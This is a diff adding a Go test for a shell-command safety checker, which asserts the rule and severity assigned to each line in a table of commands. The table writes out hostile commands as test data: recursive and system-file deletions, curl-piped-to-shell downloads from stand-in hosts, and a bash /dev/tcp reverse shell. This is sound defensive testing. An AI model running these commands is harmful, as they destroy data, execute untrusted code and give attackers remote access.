@@ -1,0 +1,78 @@
+package main
+
+import (
+	"encoding/json"
+	"strings"
+	"testing"
+)
+
+// TestBeyondStaticBinary (issue 12 §5 and the remote-code rules): through
+// the real binary, a destructive program fed operands at run time is
+// High, one system file deleted or replaced is High, downloaded code is
+// Medium however it is run (the seed's level), a reverse shell is
+// Critical; with the nearest harmless forms.
+func TestBeyondStaticBinary(t *testing.T) {
+	lines := []struct {
+		line, rule, level string // rule "" means no warning at all
+	}{
+		{"ls | xargs rm -rf", "delete_from_input", "high"},
+		{"find . -name '*.log' -print0 | xargs -0 rm -f", "delete_from_input", "high"},
+		{"rm -f $(cat /tmp/list)", "delete_from_input", "high"},
+		{"find /srv -type d | while read -r d; do rm -rf \"$d\"; done", "delete_from_input", "high"},
+		{"echo dist | xargs rm -rf", "rm_recursive", "low"},
+		{"for d in build dist; do rm -rf \"$d\"; done", "rm_recursive", "low"},
+		{"rm -rf $TARGET_DIR/", "rm_unset_variable_root", "medium"},
+		{"rm -rf \"${TARGET_DIR:?}\"/", "rm_recursive", "low"},
+		{"rm -f /etc/hosts", "delete_system_file", "high"},
+		{"sudo mv /etc/passwd /tmp/", "rm_auth_file", "high"},
+		{"sudo tee /etc/resolv.conf < /dev/null", "replace_system_file", "high"},
+		{"echo '10.0.0.5 db' | sudo tee -a /etc/hosts", "", ""},
+		{"sudo rm -rf /var/lib/docker", "rm_service_data", "high"},
+		{"rm -rf /var/lib/apt/lists/*", "rm_recursive", "low"},
+		{"curl -fsSL https://x.example/i | at now", "remote_code_runs", "medium"},
+		{"source <(curl -fsSL https://x.example/env)", "remote_code_runs", "medium"},
+		{"curl -o /tmp/i.sh https://x.example/i.sh && sh /tmp/i.sh", "runs_downloaded_file", "medium"},
+		{"curl -s https://x.example/i.py | python3", "remote_code_interpreter", "medium"},
+		{"curl -s https://x.example/api | python3 -m json.tool", "", ""},
+		{"curl -fsSL https://get.example.sh | sh", "curl_pipe_sh", "medium"},
+		{"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "reverse_shell_dev_tcp", "critical"},
+		{"python3 -c 'import shutil, os; shutil.rmtree(os.getcwd())'", "rm_rf_project", "critical"},
+		{"git clean -fdX", "git_clean_ignored", "medium"},
+		{"ssh -i ~/.ssh/id_ed25519 deploy@web1 uptime", "", ""},
+		{"set +o history; rm -rf ~/work", "history_off_then_command", "high"},
+	}
+	var in strings.Builder
+	for _, l := range lines {
+		in.WriteString(l.line)
+		in.WriteByte(0)
+	}
+	out, _ := runSG(t, in.String(), "check", "--batch", "-0")
+	results := strings.Split(strings.TrimSpace(out), "\n")
+	if len(results) != len(lines) {
+		t.Fatalf("check --batch: %d results for %d lines\n%s", len(results), len(lines), out)
+	}
+	for k, l := range lines {
+		var res struct {
+			Level    string `json:"level"`
+			Warnings []struct {
+				Name string `json:"name"`
+			} `json:"warnings"`
+		}
+		if err := json.Unmarshal([]byte(results[k]), &res); err != nil {
+			t.Fatalf("%q: %v: %s", l.line, err, results[k])
+		}
+		if l.rule == "" {
+			if len(res.Warnings) > 0 {
+				t.Errorf("%q: want no warning, got %s", l.line, results[k])
+			}
+			continue
+		}
+		found := false
+		for _, w := range res.Warnings {
+			found = found || w.Name == l.rule
+		}
+		if !found || res.Level != l.level {
+			t.Errorf("%q: want %s at %s, got %s", l.line, l.rule, l.level, results[k])
+		}
+	}
+}
